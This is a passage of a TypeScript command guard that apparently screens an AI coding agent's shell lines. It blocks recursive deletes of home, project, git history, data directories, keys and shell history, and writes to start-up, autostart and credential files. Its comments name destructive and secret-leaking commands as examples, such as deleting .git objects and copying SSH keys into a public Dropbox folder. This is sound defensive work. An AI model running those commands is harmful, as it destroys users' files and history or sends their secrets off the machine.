  if (name === 'du' && (args.some((a) => /^-[a-zA-Z]*a/.test(a) || a === '--all') || u.words.slice(1).some((w) => w.glob && /[*?]$/.test(w.text)))) roots = paths(operands(u.words, new Set(['-d', '--max-depth', '-t', '--threshold', '-B'])));
  else if (name === 'tree' && args.some((a) => /^-[a-zA-Z]*f/.test(a))) roots = paths(operands(u.words, new Set(['-L', '-P', '-I', '-o'])));
  else if (name === 'fd' || name === 'fdfind') {
    const ops = operands(u.words, FD_ARG_OPTS);
    filtered = !['', '.', '^', '.*'].includes(ops[0]?.text ?? '') || args.some((a) => /^(-e|--extension|-t|--type)$/.test(a) && false);
    roots = ops.slice(1);
  } else if ((name === 'rg' || name === 'ag') && args.some((a) => a === '--files' || a === '-l' && false)) roots = paths(operands(u.words, new Set(['-g', '--glob', '-t', '--type', '-T'])));
  else if (name === 'git' && args[0] === 'ls-files') {
    roots = [{ ...u.words[0], text: u.cwd ?? walk.env.cwd, dynamic: false, glob: false }];
    filtered = args.slice(1).some((a) => !a.startsWith('-'));
  }
  else if (name === 'stat' || name === 'compgen' || name === 'realpath' || name === 'readlink') roots = paths(operands(u.words, new Set(['-c', '--format', '--printf', '-G', '-W', '-f'])).concat(name === 'compgen' ? u.words.filter((w, k) => u.words[k - 1]?.text === '-G') : []));
  else if (name === 'ls' && args.some((a) => /^-[a-zA-Z]*R/.test(a))) roots = paths(operands(u.words));
  if (roots === null) return null;
  if (roots.length === 0) roots = [{ ...u.words[0], text: '.', dynamic: false, glob: false }];
  // compgen -G "$HOME/*", stat -c %n PATTERN: the pattern is expanded by the tool, quoted or not.
  return { roots: roots.map((r) => target(u, /[*?[]/.test(r.text) ? { ...r, glob: true } : r)), filtered };
}

/** The paths a substitution's command lists (find, a lister, echo), as xargsItems reads a feeder. */
function substitutionItems(walk: Walk, inv: Invocation, sub: string): { items: Target[]; recursive: boolean } | null {
  const cmds = parseShell(sub, parseEnv(walk, inv.cwd)).commands;
  const last = cmds[cmds.length - 1];
  if (!last || !/^(find|fd|fdfind|du|tree|rg|ls|locate|plocate|compgen|stat)$/.test(base(last.words[0]?.text ?? ''))) return null;
  const feeder: Invocation = { ...inv, argv: text(last.words), words: last.words, redirects: last.redirects, viaXargs: false, upstream: [] };
  feeder.argv[0] = base(feeder.argv[0]);
  return xargsItems(walk, { ...inv, viaXargs: true, xargsFile: undefined, redirects: [], upstream: [feeder] });
}

/** A directory that holds nothing of the user's: under /tmp (not the home or project), or where the line unpacked a download or cloned. */
function throwawayDir(walk: Walk, abs: string): boolean {
  return (/^\/(tmp|var\/tmp)\//.test(abs) && !isUnder(abs, walk.env.home) && !isUnder(abs, walk.env.project)) || walk.unpacked.some((d) => isUnder(abs, d) && !isUnder(walk.env.project, d));
}

/** Names whose files are litter or regenerated anywhere: caches, compiled and temporary files, editor and OS droppings, build output, logs. */
const JUNK_NAME = /^(node_modules|__pycache__|\.pytest_cache|\.mypy_cache|\.ruff_cache|\.tox|\.nox|\.next|\.nuxt|\.turbo|\.parcel-cache|\.cache|\.gradle|\.ipynb_checkpoints|\.DS_Store|\._\*|Thumbs\.db|desktop\.ini|coverage|dist|build|target|out|\.terraform|\.?venv|core(\.\*)?|\*~|\*\.[\w.]+~|\.#\*|#\*#|\*\.(pyc|pyo|class|o|obj|so|dylib|tmp|temp|bak|orig|rej|swp|swo|log|crdownload|part|ytdl|aria2|dmg|map|tsbuildinfo|tar\.gz|tgz|deb|rpm|AppImage|pkg|msi|exe|iso|whl))$/;

/**
 * find ~ -name '*.sql' -delete, find ~ -name package-lock.json -exec rm {} +: files of one kind deleted across
 * the whole home (in every project, every download) or across / (the system's own copies too). Only litter
 * (JUNK_NAME) is everyday there. Returns what goes.
 */
function spreadDelete(walk: Walk, abs: string | null, name: string | null, argv: string[]): string | null {
  // -maxdepth 1: only the files right there, not every project's.
  if (abs === null || name === null || argv.some((a, k) => argv[k - 1] === '-maxdepth' && /^[01]$/.test(a))) return null;
  if (abs === '/') return `every file named ${name} on the machine, the system's own among them`;
  if (/^\/(tmp|var\/tmp)$/.test(abs)) return null;
  return (broadRoot(walk, abs) || (isPreciousHomeDir(abs, walk.env) && !base(abs).startsWith('.'))) && !JUNK_NAME.test(name) ? `every ${name} across ${abs}: the user's files in every project there` : null;
}

/** The root of a listing is / , the home directory or one of their ancestors: only filters on names narrow a listing there. */
function broadRoot(walk: Walk, abs: string | null, finder?: Invocation): boolean {
  if (abs === null) return false;
  if (isSharedMountRoot(abs, finder?.argv) || isAreaRoot(abs, (a) => isOwnArea(a, walk.env))) return true;
  const c = classifyDelete(abs, walk.env);
  // /home and /Users hold every user's home.
  return c === 'root' || c === 'home' || c === 'ancestor' || /^\/(home|Users)\/?$/.test(abs);
}

/** Any home is a home: a directory right in /home/NAME or /Users/NAME (another checkout, the user's files), not a cache; returns that home. */
/**
 * Where servers keep their data: a whole directory right under /srv, /mnt or /data (an app, a mounted
 * disk), and the stores of databases and container engines under /var/lib. An application installed
 * or deployed in /opt/NAME is one too; an unpacked versioned download (/opt/node-v18.20.4-linux-x64,
 * /opt/go1.22, /opt/jdk-17) is replaced by the next one. Releases, logs and caches deeper inside
 * (/srv/app/releases/2023-*) are everyday cleanup and stay warnings.
 */
const DATA_DIR = new RegExp(`^/var/www/[^/]+$|^/usr/share/nginx/html$|^/(srv|${STORAGE_ROOTS.filter((r) => r !== 'data').join('|')})/[^/]+$|^/Volumes/[^/]+$|^/(run/)?(mnt|media|data)/[^/]+(/(?!(tmp|temp|\\.?[Cc]ache|[\\w.-]*[-_][Cc]ache|[Dd][Dd][Cc]|DerivedDataCache|ShaderCache)$)[^/]+)?$|${/\/var\/(lib\/)?(postgres(ql)?(@[\d.]+)?|mysql|mariadb|mongodb|redis)(\/[^/]+)?$|\/Application Support\/Postgres(\/[^/]+)?$|\/\.local\/share\/(containers|docker)(\/storage(\/volumes)?)?$|^\/(opt|tools|eda|cad|apps|sw|software)\/(?![^/]*(\d\.\d|[-_.]v?\d))[^/]+$|^\/Applications\/\*(\.app)?$|^\/var\/lib\/(docker|containerd|mysql|mariadb|postgresql|pgsql|redis|mongodb|elasticsearch|opensearch|etcd|rancher|kubelet|influxdb|clickhouse|cassandra|rabbitmq|minio|grafana|prometheus|jenkins|gitlab|libvirt|lxd|vault|consul)(\/[^/]+){0,2}$/.source}`);

/**
 * `cd /home/dev/projects/shop && rm -rf src package.json`, `cd /home/dev/projects/api/.. && rm -rf api`: a line
 * that cds into a directory elsewhere works there as in its project (the way Claude Code writes its commands).
 * Deleting that directory from inside it (rm -rf "$PWD", ./*), the one `cd DIR/..` named and climbed out of,
 * or its source tree (src/, the project's own too) loses work. A clone made on the line, the temporary
 * directories and system paths (judged by their own rules) are not such places. Returns what is lost.
 */
function workDirDelete(walk: Walk, inv: Invocation, abs: string): string | null {
  const env = walk.env;
  if (abs === `${env.project}/src`) return `${abs}, the project's source tree: what is not committed is lost`;
  for (const w of walk.workDirs) {
    if (isUnder(w.dir, env.project) || isUnder(env.home, w.dir) || walk.unpacked.some((d) => isUnder(w.dir, d)) || isSystemPath(w.dir, env.home) || (/^\/(tmp|var\/tmp)\//.test(w.dir) && !isUnder(w.dir, env.home))) continue;
    if (abs === w.named) return `${abs}, the directory the line names and climbs out of to delete it: work that no backup of the project covers`;
    if (abs === w.dir && inv.cwd !== null && isUnder(inv.cwd, w.dir)) return `${abs}, the directory the line works in: work that no backup of the project covers`;
    if (abs === `${w.dir}/src`) return `${abs}, the source tree of ${w.dir}, where the line works: work that no backup of the project covers`;
  }
  return null;
}

/** A web site's content and roots: WordPress's wp-content (and its uploads), a shared host's public_html/htdocs, Laravel's and Rails' upload stores. */
const WEB_CONTENT = /(^|\/)(wp-content(\/uploads)?|public_html|htdocs|httpdocs|storage\/app(\/public)?|public\/(uploads|system))\/?$/;


function homeWorkDir(abs: string, env: PathEnv): string | undefined {
  const h = /^\/(?:home|Users)\/[^/]+(?=\/[^/]+$)/.exec(abs)?.[0];
  return h && !isUnder(abs, env.project) && !isHomeCache(abs, { ...env, home: h }) ? h : undefined;
}

function checkDelete(walk: Walk, inv: Invocation, t0: Target, recursive: boolean, verb: string): void {
  const env = walk.env;
  // ls -d ~/Sites/*/ | xargs rm -rf, for d in ~/Sites/*/: items spelled X/* are every entry of X, one by one.
  let t = ownHome(walk, !t0.wholeDir && t0.abs !== null && /\/\*\/?$/.test(t0.abs) && !t0.word.glob ? { ...t0, abs: t0.abs.replace(/\/\*\/?$/, '') || '/', wholeDir: true } : t0);
  // "$d" unknown when the line was parsed but set by the time it runs (eval "d=~"; rm -rf "$d"): its value now.
  const late = t.word.dynamic ? /^\$\{?([A-Za-z_]\w*)\}?(\/.*)?$/.exec(t.word.text) : null;
  const lateVal = late ? walk.vars.get(late[1]) : undefined;
  if (late && lateVal && !lateVal.dynamic && lateVal.text !== t.word.text) {
    t = target(inv, { ...t.word, text: lateVal.text + (late[2] ?? ''), dynamic: false });
  }
  // (mv ~/.gitconfig ~/.gitconfig.bak is a backup; the agent's settings moved away switch its hooks off.)
  const own = t.abs !== null ? ownConfig(walk, t.abs) : null;
  if (own && (verb !== 'mv' || !own.includes('git configuration'))) {
    block(walk, 'dangerous', `${verb} deletes ${own}`, 'change one setting with its own tool (git config --global, claude config)');
    return;
  }
  const was = t.abs !== null ? walk.movedFrom.get(t.abs) : undefined;
  if (was !== undefined && was !== t.abs) {
    walk.movedFrom.delete(t.abs!);
    checkDelete(walk, inv, { ...t, abs: was, word: { ...t.word, text: was, glob: false } }, recursive, `${verb} (of what was moved there from ${was})`);
  }
  if (recursive && t.word.dynamic && checkUnknownDelete(walk, inv, t, verb)) return;
  // A site's own content (wp-content, uploads, a web root such as public_html): not in git, not build output.
  if (recursive && !t.word.dynamic && WEB_CONTENT.test(t.abs ?? t.word.text) && !(/^\/(tmp|var\/tmp)\//.test(t.abs ?? '') && !isUnder(t.abs!, env.project))) {
    block(walk, 'dangerous', `${verb} -r of ${t.abs ?? t.word.text}: a site's content (uploads, themes, plugins) or its whole web root, which no commit holds`, 'delete the one cache or upgrade directory meant, by name');
    return;
  }
  if (t.abs === null) {
    if (recursive && t.word.dynamic) {
      warn(walk, 'suspicious', `${verb} -r on "${t.word.text}", a path only known at run time: if it is empty or unset this deletes far more than intended`, 'check the variable first: [ -n "$DIR" ] && rm -rf -- "$DIR"');
    }
    return;
  }
  // rm -rf ../*-worktree, ../app-*: a pattern over the directories beside the project (other checkouts and work trees, their
  // uncommitted work with them). Build output named so (../build-*, ../cmake-build-*) is not.
  // rm -rf ~/.config/JetBrains ~/.local/share/fish: an application's whole settings or data (plugins, history, profiles) to "reset" it.
  // (Caches in them, the Trash, virtualenvs and package stores are not the user's: they come back or are meant to go.)
  const app = /^\/\.(config|local\/share)\/([^/]+)$/.exec(t.abs.startsWith(`${env.home}/`) ? t.abs.slice(env.home.length) : '');
  if ((recursive || t.wholeDir) && app && verb !== 'mv' && !/^(Trash|virtualenvs|pnpm|recently-used\.xbel|.*[Cc]ache.*|.*[Ll]ogs?)$/.test(app[2]) && !throwawayDir(walk, t.abs)) {
    block(walk, 'dangerous', `${verb} deletes ${t.abs}, an application's whole ${app[1] === 'config' ? 'settings' : 'data'} (profiles, plugins, history): nothing brings them back`, `move it aside instead: mv ${t.word.text} ${t.word.text}.bak`);
    return;
  }
  const beside = path.posix.dirname(t.abs);
  // rm -rf "$CLAUDE_PROJECT_DIR"/.[a-z]*, ./.??*: a pattern at a repository's top that matches .git takes the repository.
  if (recursive && t.word.glob && !throwawayDir(walk, beside) && (beside === env.project || walk.workDirs.some((w) => w.dir === beside)) && globMatches(base(t.abs), '.git')) {
    block(walk, 'dangerous', `${verb} -r of ${t.word.text} matches ${beside}/.git: the repository's whole history, branches and stashes go`, 'name the dotfiles to delete, e.g. rm -rf .cache .pytest_cache');
    return;
  }
  if (recursive && t.word.glob && !t.wholeDir && t.abs !== env.home && beside !== env.project && isUnder(env.project, beside) && (beside === path.posix.dirname(env.project) || isUnder(beside, env.home)) && !/^\/(tmp|var\/tmp)?$/.test(beside) && !/build|out|dist|tmp|temp|cache|artifacts/i.test(base(t.abs))) {
    block(walk, 'dangerous', `${verb} -r of ${t.word.text} deletes whatever matches beside the project: other checkouts and work trees, with their uncommitted work`, 'name the directory to delete');
    return;
  }
  if ((recursive || t.wholeDir) && inv.prod && !(/^\/(tmp|var\/tmp)\//.test(t.abs) && !isUnder(t.abs, env.home))) {
    block(walk, 'dangerous', `${verb} -r of ${t.abs} on a production host: the service's files or data`, 'let the user run it on production');
    return;
  }
  if ((recursive || t.wholeDir) && isHomeCache(t.abs, env) && t.abs !== env.home) return;
  // The repository's objects and refs, file by file (truncate -s 0 .git/objects/pack/*.pack): its history. So are the LFS
  // objects (.git/lfs, .git/lfs/objects): the only copy of every large file not pushed yet.
  if (/(^|\/)\.git\/(objects|refs|logs|lfs\/objects|lfs$|packed-refs$|HEAD$)(\/|$)/.test(t.abs) && !/^\/(tmp|var\/tmp)\//.test(t.abs.replace(env.home, '~')) && !/\.lock$/.test(t.abs)) {
    block(walk, 'dangerous', `${verb} destroys ${t.abs}, part of the git repository's history`, 'to start over, clone again into a new directory');
    return;
  } // a cache: it comes back on the next download
  // /tmp/* and /var/tmp/*: the contents of the temporary directories, not the directories; a warning.
  if (t.wholeDir && (t.abs === '/tmp' || t.abs === '/var/tmp')) {
    warn(walk, 'suspicious', `${verb} ${t.word.text} deletes every temporary file on the machine, other programs' too`, 'remove only what this work created, e.g. rm -rf /tmp/myproject-*');
    return;
  }
  if (recursive || t.wholeDir) {
    const c = classifyDelete(t.abs, env);
    if (c && c !== 'system') {
      block(walk, 'dangerous', describeDelete(c, t.abs), 'name the exact directory to remove, e.g. rm -rf ./build');
      return;
    }
    if (c === 'system' && recursive) {
      block(walk, 'system', describeDelete(c, t.abs), 'system directories are managed by the package manager');
      return;
    }
    // ~/.[a-z]* or ~/D* match .ssh, .config, Documents...: the glob deletes them.
    // ~/p*t, ~/[p]roject, ~/pr?ject match the project itself when it sits there.
    if (t.word.glob && path.posix.dirname(t.abs) === path.posix.dirname(env.project) && /[*?[]/.test(path.posix.basename(t.abs)) && globMatches(path.posix.basename(t.abs), path.posix.basename(env.project))) {
      block(walk, 'dangerous', `${verb} ${t.word.text} matches the project directory ${env.project}: ${describeDelete('project', env.project)}`, 'name the exact directory to remove, e.g. rm -rf ./build');
      return;
    }
    const globbed = t.word.glob && path.posix.dirname(t.abs) === env.home ? PRECIOUS_NAMES.find((n) => globMatches(path.posix.basename(t.abs!), n)) : undefined;
    if (globbed) {
      block(walk, 'dangerous', `${verb} ${t.word.text} matches ${env.home}/${globbed} and the like: the user's own files, keys or settings, which nothing can bring back`, 'name the exact paths to remove');
      return;
    }
    if (isPreciousHomeDir(t.abs, env) || (recursive && isSecretSource(t.abs, env) && isUnder(t.abs, env.home) && !isUnder(t.abs, env.project))) {
      block(walk, 'dangerous', `${verb} would delete ${t.abs}: the user's own files, keys or settings, which nothing can bring back`, 'remove only the single file that is wrong, after a backup');
      return;
    }
  }
  // A private key or signing keystore (release.jks, AuthKey_X.p8, id_ed25519, store.p12) deleted anywhere: no one can make it again,
  // and what it signed (an app in a store, a server's trust) can no longer be updated. (Test certificates are .pem/.key: not these.)
  // (Keys among the system and secret files, ~/.ssh/id_*, are refused by that check below, with its reason.)
  if (isKeyMaterial(t.abs) && !/\.pub$/.test(t.abs) && !isSecretPath(t.abs, env)) {
    block(walk, 'dangerous', `${verb} would delete the private key or keystore ${t.abs}: it cannot be made again, and what it signed can no longer be updated`, 'move it aside to a backup the user keeps, or let the user delete it');
    return;
  }
  if (recursive || t.wholeDir) {
    // A throwaway clone (cd "$(mktemp -d)" && git clone … . && rm -rf .git) keeps nothing of the user's.
    const throwaway = (/^\/(tmp|var\/tmp)\//.test(t.abs) && !isUnder(t.abs, env.project) && !isUnder(t.abs, env.home)) || walk.unpacked.some((d) => isUnder(t.abs!, d) && !isUnder(walk.env.project, d));
    // (.git/modules: every submodule's own repository; one of them, .git/modules/NAME, goes when a submodule is removed.)
    if (verb !== 'mv' && !throwaway && /(^|\/)\.git(\/(objects|refs|logs|packed-refs|HEAD)(\/.*)?|\/modules)?$/.test(t.abs)) {
      block(walk, 'dangerous', `${verb} would delete the git repository ${t.abs}: its whole history, branches and stashes`, 'to start over, clone again into a new directory; to drop a branch use git branch -d');
      return;
    }
  }
  // One package-source file (/etc/apt/sources.list.d/old.list): removing it is how a repository is dropped.
  // So is a site's config in a web server's enabled list, and a rotated log (/var/log/nginx/*.gz).
  const sourceFile = !recursive && ((!t.word.glob && /^\/etc\/(apt\/(sources\.list\.d|preferences\.d|trusted\.gpg\.d|keyrings)|yum\.repos\.d|zypp\/repos\.d|(nginx|apache2|httpd)\/(sites-enabled|sites-available|conf\.d|conf-enabled|conf-available)|udev\/rules\.d)\/[^/]+$/.test(t.abs)) || /^\/var\/log\/.+\.(gz|xz|bz2|zst|old|\d+)$/.test(t.word.text.replace(/^~/, '')));
  if (isMachineDisk(t.abs, env) && verb !== 'mv') {
    block(walk, 'dangerous', `${verb} destroys ${t.abs}, the disk of a virtual machine or WSL distribution: every file in that machine goes with it`, 'remove a distribution with wsl --unregister, or a VM with its own manager, after an export');
    return;
  }
  // rm -f apps/*/.env*, xargs rm over find -name '.env*': every env file a pattern matches, secrets no commit holds.
  if (t.word.glob && DOTENV_PATTERN.test(path.posix.basename(t.abs)) && isUnder(t.abs, env.project) && verb !== 'mv') {
    block(walk, 'dangerous', `${verb} ${t.word.text} deletes every env file it matches: the secrets and settings in them are in no commit`, 'remove the one file meant, by its path, after a copy');
    return;
  }
  if (HISTORY_FILE.test(t.abs) && isUnder(t.abs, env.home) && verb !== 'mv') {
    block(walk, 'dangerous', `${verb} deletes ${t.abs}: the shell history is destroyed`);
    return;
  }
  if (!sourceFile && (isSystemPath(t.abs, env.home) || isSecretPath(t.abs, env) || isPasswordVault(t.abs)) || (t.word.glob && isSecretName(path.posix.basename(t.abs)) && isUnder(t.abs, env.home) && !isUnder(t.abs, env.project))) {
    block(walk, 'system', `${verb} would delete the system or secret file ${t.abs}`);
    return;
  }
  const otherHome = homeWorkDir(t.abs, env);
  if (recursive && otherHome) {
    block(walk, 'dangerous', `${verb} -r of ${t.abs}, a whole directory in the home directory ${otherHome}: the user's own work, which nothing can bring back`, 'name the exact build or cache directory to remove');
    return;
  }
  const worked = recursive || t.wholeDir ? workDirDelete(walk, inv, t.abs) : null;
  if (worked) {
    block(walk, 'dangerous', `${verb} -r of ${worked}`, 'delete build output by name (dist, build, node_modules)');
    return;
  }
  const store = serverStoreLoss(t.abs) ?? (isStateFile(t.abs) && !(/^\/(tmp|var\/tmp)\//.test(t.abs) && !isUnder(t.abs, env.project)) ? `${t.abs}, the Terraform state: the only record of what the configuration made, which then lives on unmanaged` : null);
  if (store && verb !== 'mv') {
    block(walk, 'dangerous', `${verb} deletes ${store}`, 'let the user run it, after a backup (a server checkpoint, terraform state pull > FILE)');
    return;
  }
  const shared = recursive || t.wholeDir ? sharedMountLoss(t.abs, env) ?? (isUnder(t.abs, env.project) || isUnder(t.abs, env.home) ? null : sourceAssetLoss(t.abs) ?? deployTreeLoss(t.abs)) ?? (recursive ? systemInstallLoss(t.abs, () => walk.out.map((i) => i.argv)) : null) : null;
  if (shared) {
    block(walk, 'dangerous', `${verb} -r of ${shared}, which no backup of the project covers`, 'delete inside your own area of the mount (/scratch/$USER/...), by name');
    return;
  }
  if ((recursive || t.wholeDir) && (DATA_DIR.test(t.abs) || DATA_DIR.test(windowsView(t.abs, env).p) || STORAGE_ROOT.test(t.abs))) {
    block(walk, 'dangerous', `${verb} -r of ${t.abs}${inv.remote ? ' on another host' : ''}: ${t.abs.startsWith('/opt/') ? 'an installed application' : "a service's data or a mounted disk"}, which no backup of the project covers`, 'name the release, log or cache directory inside it to remove');
    return;
  }
  if (recursive && !isUnder(t.abs, env.project) && !isUnder(t.abs, '/tmp') && !isUnder(t.abs, '/var/tmp') && !t.word.text.startsWith('..')) {
    warn(walk, 'suspicious', `${verb} -r of ${t.abs}, outside the project`);
  }
}

/**
 * A recursive delete whose path holds parts only known at run time. What remains when they are
 * empty decides: `"$X"/*` or `~/$SUB` would delete / or the home directory, so it is refused; a
 * path that comes whole from a command substitution we cannot resolve (`$(cat dirs)`) is refused
 * too. `"$X/"` is refused as well (issue 13: an unknown target at the depth of / is dangerous;
 * GNU rm's --preserve-root is the only thing between it and /, and not every rm has one). `"$X"`
 * alone, wholly unknown, is a warning.
 */
function checkUnknownDelete(walk: Walk, inv: Invocation, t: Target, verb: string): boolean {
  const raw = t.word.text;
  const fixed = raw.replace(UNKNOWN_PART, '');
  const names = raw.match(UNKNOWN_PART) ?? [];
  const fromSub = raw.includes('$(…)');
  // ${X:?msg} / ${X?msg}: the shell stops with an error when X is empty or unset, so it is never empty here.
  if (/\$\{[A-Za-z_]\w*:?\?[^}]*\}/.test(raw) && !fromSub && names.every((n) => /^\$\{[A-Za-z_]\w*:?\?/.test(n))) return false;
  if (fromSub && fixed.replace(/[/.*]/g, '') === '') {
    block(walk, 'dangerous', `${verb} -r of a path computed by a command substitution that cannot be known before it runs ("${raw}"): it could be /, the home directory or the project`, 'compute the path first, look at it, then delete it by name');
    return true;
  }
  if (fixed === '' || (inv.cwd === null && !fixed.startsWith('/'))) return false;
  const ifEmpty = target(inv, { ...t.word, text: fixed, dynamic: false });
  if (ifEmpty.abs === null) return false;
  const c = classifyDelete(ifEmpty.abs, walk.env);
  // rm -rf /mnt/datasets/"$DATASET", ~/experiments/$EXP, /scratch/$RUN_ID: empty, the whole data directory (or a
  // shared mount's area) goes. $USER and $LOGNAME are never empty in a login shell: /scratch/$USER/x is the user's own.
  const own = /^\$\{?(USER|LOGNAME)\}?$/;
  const kept = names.some((n) => !own.test(n)) ? target(inv, { ...t.word, text: raw.replace(UNKNOWN_PART, (x) => (own.test(x) ? x : '')), dynamic: false }).abs : null;
  const lost = kept === null || c ? null : DATA_DIR.test(kept) || isPreciousHomeDir(kept, walk.env) || STORAGE_ROOT.test(kept) ? `all of ${kept}` : sharedMountLoss(kept, walk.env);
  if (lost) {
    block(walk, 'dangerous', `${verb} -r "${raw}": if ${names.join(', ')} is empty or unset this deletes ${lost}`, `check it first: [ -n "${names[0] ?? '$DIR'}" ] && rm -rf -- "${raw}"`);
    return true;
  }
  if (c && c !== 'system') {
    block(walk, 'dangerous', `${verb} -r "${raw}": if ${names.join(', ')} is empty or unset this is a ${describeDelete(c, ifEmpty.abs)}`, `check it first: [ -n "${names[0] ?? '$DIR'}" ] && rm -rf -- "${raw}"`);
    return true;
  }
  return false;
}

/** A pattern over env files (.env*, .env.*, .dev.vars*): every one of them, secrets and all. */
const DOTENV_PATTERN = /^\.env(\*|\.\*)$|^\.dev\.vars\*?$|^\*\.env$/;

/** The shells' and REPLs' history files. */
const HISTORY_FILE = /\/\.(bash|zsh|sh|python|psql|mysql)_history$|\/\.local\/share\/fish\/fish_history$/;

/** /home/$USER/x and /Users/$LOGNAME/x: the user's own home (the shell puts the name in). */
function ownHome(walk: Walk, t: Target): Target {
  const m = t.abs !== null && t.abs.includes('$') ? /^\/(?:home|Users)\/\$\{?(?:USER|LOGNAME)\}?(?=\/|$)/.exec(t.abs) : null;
  return m ? { ...t, abs: walk.env.home + t.abs!.slice(m[0].length) } : t;
}

function checkWrite(walk: Walk, inv: Invocation, t0: Target, verb: string, sources: Word[] | null = null): void {
  const t = ownHome(walk, t0);
  // "$(python3 -m site --user-site)/x.pth": a start-up hook of Python named through the site directory.
  if (t.abs === null && /\.pth$|(user|site)customize\.py$/.test(t.word.text) && t.word.subs.some((x) => /\bsite\b|site-packages|purelib|platlib/.test(x))) {
    block(walk, 'dangerous', `${verb} writes ${t.word.text}, a file Python runs at every start: a way to stay on the machine`, 'show the user the change and let them make it');
    return;
  }
  if (t.abs === null) return;
  if (isDiskDevice(t.abs)) {
    block(walk, 'dangerous', `${verb} writes onto the disk device ${t.abs}`);
    return;
  }
  const own = ownConfig(walk, t.abs);
  if (own && !own.includes('git configuration')) {
    block(walk, 'dangerous', `${verb} rewrites ${own}: the guard could be switched off`, 'ask the user to change the settings');
    return;
  }
  // echo 0000… > .git/refs/heads/main, cp x .git/objects/pack/…: git's store overwritten behind git's back.
  if (/\/\.git\/(objects|refs)\//.test(t.abs) && !/\.lock$/.test(t.abs) && /^(redirection \(>\|?\)|cp|dd|tee|install|ln)$/.test(verb)) {
    block(walk, 'dangerous', `${verb} overwrites ${t.abs} inside git's object store or refs: branches and history are damaged`, 'change refs with git itself (git branch -f, git update-ref with the old value)');
    return;
  }
  // > ~/.bash_history, truncate, cp /dev/null, ln -sf /dev/null onto it: the shell history destroyed, as shred -u would.
  // (sed -i '/token/d' ~/.bash_history, which scrubs one leaked line, is not that.)
  if (HISTORY_FILE.test(t.abs) && /^(redirection \(>\|?\)|truncate|unlink|cp|ln|mv|install|dd|tee)$/.test(verb) && !(verb === 'tee' && inv.argv.some((a) => /^-[a-zA-Z]*a|^--append$/.test(a)))) {
    block(walk, 'dangerous', `${verb} overwrites ${t.abs}: the shell history is destroyed`);
    return;
  }
  if (isStartupFile(t.abs, walk.env) && !isSystemPath(t.abs, walk.env.home)) {
    block(walk, 'dangerous', `${verb} writes to the shell start-up file ${t.abs}: what is written there runs in every shell the user opens from now on`, 'show the user the line to add and let them add it');
    return;
  }
  if (isAutostartPath(t.abs, walk.env)) {
    block(walk, 'dangerous', `${verb} writes to ${t.abs}, where the system starts programs by itself (at login, boot or on a timer): a way to stay on the machine`, 'show the user the unit or agent and let them install it');
    return;
  }
  // cp ~/.ssh/id_ed25519 ~/Dropbox/Public/: a secret put where a sync service uploads or shares it.
  const synced = syncedFolder(t.abs, walk.env);
  if (synced && (sources ? sources.some((w) => isSecret(walk, target(inv, w).abs)) : producesSecret(walk, inv) !== null)) {
    block(walk, 'dangerous', `${verb} puts a secret into ${t.abs}, in ${synced}, which a sync service uploads or shares: it leaves this machine`, 'keep keys and tokens out of synced folders');
    return;
  }
  // echo 'AT+GMR' > /dev/ttyUSB0: text sent to a board or a modem over its serial port.
  if (isSerialPort(t.abs)) return;
  if (!isSystemPath(t.abs, walk.env.home) && checkShadow(walk, inv, t, verb, sources)) return;
  if (isSystemPath(t.abs, walk.env.home) && routineAdminWrite(walk, inv, t.abs, verb, sources)) return;
  if (isSystemPath(t.abs, walk.env.home)) block(walk, 'system', `${verb} writes to the system path ${t.abs}`, 'system files are changed through the package manager or a reviewed config change, not by the assistant');
  // A public key (ssh-keygen -y > id_ed25519.pub) holds nothing secret and is made again from the key.
  else if (/\.pub$/.test(t.abs) && isUnder(t.abs, `${walk.env.home}/.ssh`)) return;
  // ~/.kube/config-ci, ~/.aws/ci-profile: a new file beside the tools' own (config, credentials, keys) overwrites nothing of the user's.
  // echo 'localhost:5432:*:app:pw' >> ~/.pgpass: one more host's line in a password file; the others stay.
  else if (/\/\.(pgpass|netrc)$/.test(t.abs) && (verb === 'redirection (>>)' || (verb === 'tee' && inv.argv.some((a) => /^-[a-zA-Z]*a|^--append$/.test(a))))) warn(walk, 'system', `${verb} adds a line to the password file ${t.abs}`);
  // cp debug.keystore android/app/release.jks: one key written over another of a different name, which is then lost
  // (a backup under the same name, cp -n, or a key restored from a secret are not that).
  else if (isKeyMaterial(t.abs) && /^(cp|mv|install)$/.test(verb) && !inv.argv.some((a) => /^(-n|--no-clobber|--update=none)$/.test(a)) && (sources ?? []).some((w) => { const a = target(inv, w).abs; return a !== null && /\.(jks|keystore|p12|pfx|p8)$/.test(a) && path.posix.basename(a) !== path.posix.basename(t.abs!); })) block(walk, 'dangerous', `${verb} writes another key over the private key or keystore ${t.abs}: the key in it cannot be made again`, 'write to a new file name and let the user replace the key');
  // cp "$GOOGLE_APPLICATION_CREDENTIALS" ~/.config/gcloud/…: a credential put where its tool reads it, from another credential.
  else if (isSecretPath(t.abs, walk.env) && verb === 'cp' && sources !== null && sources.length > 0 && sources.every((w) => isSecretPath(resolveFrom(inv.cwd ?? walk.env.cwd, w.text.replace(/^~(?=\/)/, walk.env.home)), walk.env))) warn(walk, 'system', `${verb} puts a credential in place at ${t.abs}`);
  else if (isSecretPath(t.abs, walk.env) && verb !== 'mkdir' && !(/\/\.(kube|aws)\/[^/]+$/.test(t.abs) && !/\/(config|credentials|sso|cli)$/.test(t.abs) && isUnder(t.abs, walk.env.home)) && !sameStoreLinked(walk, inv, t.abs, verb, sources)) block(walk, 'system', `${verb} writes to the credentials file ${t.abs}`);
}

/**
 * ln -s /mnt/c/Users/me/.aws ~/.aws: the same tool's credentials store of another home (the Windows
 * profile, as the AWS and SSH docs for WSL advise) linked in place of this one: shared, not written.
 */
function sameStoreLinked(walk: Walk, inv: Invocation, abs: string, verb: string, sources: Word[] | null): boolean {
  if (verb !== 'ln' || !sources || sources.length !== 1 || sources[0].dynamic) return false;
  const from = target(inv, sources[0]).abs;
  const rel = homeRelPath(abs, walk.env);
  return from !== null && rel !== null && from !== abs && homeRelPath(from, walk.env) === rel;
}

/** Hosts that code and packages come from (or go to): a hosts line sending one elsewhere hijacks them. */
const SUPPLY_HOST = /(^|\.)(github|githubusercontent|gitlab|bitbucket|npmjs|yarnpkg|pypi|pythonhosted|rubygems|crates|docker|golang|maven|nuget|anthropic|openai|googleapis|amazonaws|microsoft|apple|ubuntu|debian)\.[a-z.]+$/;
/** sysctl keys whose change weakens the kernel's defences (ASLR, ptrace, address leaks, BPF) or runs a program as root (a piped core_pattern). */
